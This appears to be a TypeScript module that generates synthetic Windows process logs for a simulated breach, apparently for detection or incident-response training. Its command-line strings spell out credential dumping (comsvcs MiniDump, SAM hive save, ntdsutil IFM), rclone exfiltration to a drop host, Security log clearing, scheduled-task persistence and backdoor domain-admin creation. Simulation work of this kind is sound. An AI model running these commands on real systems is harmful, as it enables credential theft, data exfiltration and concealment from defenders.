import {
  backdoorAccount,
  hosts,
  implant,
  infrastructure,
  lure,
  secondVictim,
  serverPowerShell,
  stolenAdminAccount,
  stolenServiceAccount,
  times,
  workstationPowerShell,
} from '../attack';
import type { Generation } from '../generation';
import { HOUR, MINUTE, SECOND } from '../storyTime';
import type { Device } from '../world/devices';
import { type Image, images } from './images';
import { accountOf, pathOf, type Process, type ProcessStart, startOf, systemAccount } from './processModel';

const implantImage: Image = {
  file: implant.file,
  folder: implant.folder,
  company: 'Microsoft Corporation',
  description: 'Windows Telemetry Sync',
  product: 'Telemetry',
  version: '1.0.0.3',
  size: 417_792,
  sha256: implant.sha256,
  sha1: implant.sha1,
  md5: implant.md5,
  signed: false,
};

/** The process trees of the attack, and the processes that its network and file events name. */
export interface AttackProcesses {
  readonly starts: readonly ProcessStart[];
  readonly workstationBrowser: Process;
  readonly workstationScript: Process;
  readonly workstationPowerShell: Process;
  readonly workstationImplant: Process;
  readonly serverPowerShell: Process;
  readonly serverImplant: Process;
  readonly serverDump: Process;
  readonly fileServerImplant: Process;
  readonly archiver: Process;
  readonly uploader: Process;
}

export const dumpFile = { server: 'm1.dmp', fileServer: 'm2.dmp' } as const;
export const archivePath = `${implant.folder}\\fin-q3.7z`;

export function attackProcesses(generation: Generation): AttackProcesses {
  const { world } = generation;
  const starts: ProcessStart[] = [];
  const start = (
    device: Device,
    parent: Process,
    image: Image,
    id: number,
    time: number,
    commandLine: string,
    changes: Partial<Process> = {},
  ): Process => {
    const process = startOf(parent, image, id, time, commandLine, changes);
    starts.push({ device, process });
    return process;
  };

  const workstation = world.device(secondVictim.workstation);
  const tomas = accountOf(world.person(secondVictim.name));
  const downloads = `C:\\Users\\${secondVictim.name}\\Downloads`;
  const userinit: Process = {
    image: images.userinit,
    id: 5216,
    created: times.lureRun - 47 * MINUTE,
    commandLine: 'userinit.exe',
    account: tomas,
    integrity: 'Medium',
    logonId: 3_418_207,
  };
  const explorer = startOf(userinit, images.explorer, 5348, userinit.created + 700, 'explorer.exe');
  const browser = startOf(explorer, images.edge, 9124, times.lureClicked - 20 * MINUTE, `"${pathOf(images.edge)}"`);
  const script = start(
    workstation,
    explorer,
    images.wscript,
    7736,
    times.lureRun,
    `"${pathOf(images.wscript)}" "${downloads}\\${lure.file}"`,
  );
  const shell = start(workstation, script, images.powershell, 8120, times.lureRun + 3 * SECOND, workstationPowerShell);
  start(workstation, shell, images.conhost, 8132, times.lureRun + 3 * SECOND + 40, `${pathOf(images.conhost)} 0xffffffff -ForceV1`);
  const workstationImplant = start(workstation, shell, implantImage, 8464, times.lureRun + 68 * SECOND, `"${pathOf(implantImage)}" -k`);
  start(workstation, workstationImplant, images.whoami, 8612, times.lureRun + 5 * MINUTE, 'whoami /all');
  start(workstation, workstationImplant, images.ipconfig, 8620, times.lureRun + 5 * MINUTE + 9 * SECOND, 'ipconfig /all');

  const server = world.device(hosts.application);
  const guestAgent: Process = {
    image: images.guestAgent,
    id: 2216,
    created: times.serverRun - 300 * HOUR,
    commandLine: images.guestAgent.file,
    account: systemAccount,
    integrity: 'System',
    logonId: 999,
  };
  const runCommand = start(server, guestAgent, images.runCommand, 4312, times.serverRun, `"${pathOf(images.runCommand)}" enable`);
  const scriptPath = 'C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\Downloads\\script0.ps1';
  const command = start(
    server,
    runCommand,
    images.cmd,
    5120,
    times.serverRun + SECOND,
    `cmd.exe /c powershell -ExecutionPolicy Unrestricted -File ${scriptPath}`,
  );
  const outer = start(
    server,
    command,
    images.powershell,
    5188,
    times.serverRun + 2 * SECOND,
    `powershell  -ExecutionPolicy Unrestricted -File ${scriptPath}`,
  );
  const inner = start(server, outer, images.powershell, 5236, times.serverRun + 4 * SECOND, serverPowerShell);
  const serverImplant = start(server, inner, implantImage, 6044, times.serverRun + 31 * SECOND, `"${pathOf(implantImage)}"`);
  start(server, serverImplant, images.whoami, 6120, times.serverRun + 6 * MINUTE, 'whoami /groups');
  start(server, serverImplant, images.nltest, 6132, times.serverRun + 6 * MINUTE + 12 * SECOND, 'nltest /dclist:contoso.local');
  start(server, serverImplant, images.net, 6148, times.serverRun + 6 * MINUTE + 31 * SECOND, 'net group "Domain Admins" /domain');
  start(server, serverImplant, images.net, 6156, times.serverRun + 7 * MINUTE, 'net view /all');
  const dumpLine = (folder: string, file: string): string =>
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 ${folder}\\${file} full`;
  const serverDump = start(server, serverImplant, images.rundll32, 6308, times.firstDump, dumpLine(implant.folder, dumpFile.server));
  start(server, serverImplant, images.reg, 6324, times.firstDump + 95 * SECOND, `reg save hklm\\sam ${implant.folder}\\s.hiv`);
  start(
    server,
    serverImplant,
    images.net,
    7012,
    times.lateralMovement.start,
    `net use \\\\${hosts.fileServer}\\ADMIN$ /user:CONTOSO\\${stolenServiceAccount}`,
  );

  const fileServer = world.device(hosts.fileServer);
  const services: Process = {
    image: images.services,
    id: 704,
    created: times.serverRun - 310 * HOUR,
    commandLine: 'services.exe',
    account: systemAccount,
    integrity: 'System',
    logonId: 999,
  };
  const remoteImplant = start(
    fileServer,
    services,
    { ...implantImage, folder: 'C:\\Windows' },
    3884,
    times.remoteService + 2 * SECOND,
    'C:\\Windows\\wtsync.exe',
  );
  start(fileServer, remoteImplant, images.rundll32, 4412, times.secondDump, dumpLine(implant.folder, dumpFile.fileServer));
  start(
    fileServer,
    remoteImplant,
    images.schtasks,
    4720,
    times.scheduledTask,
    `schtasks /create /tn "${implant.task}" /tr C:\\Windows\\wtsync.exe /sc hourly /ru SYSTEM /f`,
  );
  const archiver = start(
    fileServer,
    remoteImplant,
    images.sevenZip,
    5012,
    times.archive.start,
    `"${pathOf(images.sevenZip)}" a -v500m -mx1 -p${'*'.repeat(12)} ${archivePath} E:\\Shares\\Finance\\*`,
  );
  const uploader = start(
    fileServer,
    remoteImplant,
    images.rclone,
    5260,
    times.upload.start,
    `rclone.exe copy ${implant.folder} drop:fin --include fin-q3.7z.* --transfers 1 --s3-endpoint https://${infrastructure.dropDomain}`,
  );
  start(fileServer, remoteImplant, images.wevtutil, 5404, times.logCleared - SECOND, 'wevtutil cl Security');

  const controller = world.device(hosts.domainController);
  const admin = accountOf(world.serviceAccount(stolenAdminAccount));
  const adminInit: Process = {
    image: images.userinit,
    id: 6600,
    created: times.remoteDesktop + 6 * SECOND,
    commandLine: 'userinit.exe',
    account: admin,
    integrity: 'High',
    logonId: 9_127_344,
  };
  const adminExplorer = start(controller, adminInit, images.explorer, 6688, times.remoteDesktop + 7 * SECOND, 'explorer.exe');
  const adminShell = start(controller, adminExplorer, images.cmd, 6904, times.remoteDesktop + 4 * MINUTE, `"${pathOf(images.cmd)}"`);
  start(
    controller,
    adminShell,
    images.ntdsutil,
    7020,
    times.directoryCopy,
    `ntdsutil.exe "ac i ntds" "ifm" "create full ${implant.folder}\\ifm" q q`,
  );
  const creation = `net user ${backdoorAccount} ${'*'.repeat(10)} /add /domain`;
  start(controller, adminShell, images.net, 7132, times.backdoorCreated - SECOND, creation);
  start(
    controller,
    adminShell,
    images.net,
    7156,
    times.backdoorPrivileged - SECOND,
    `net group "Domain Admins" ${backdoorAccount} /add /domain`,
  );

  return {
    starts,
    workstationBrowser: browser,
    workstationScript: script,
    workstationPowerShell: shell,
    workstationImplant,
    serverPowerShell: inner,
    serverImplant,
    serverDump,
    fileServerImplant: remoteImplant,
    archiver,
    uploader,
  };
}
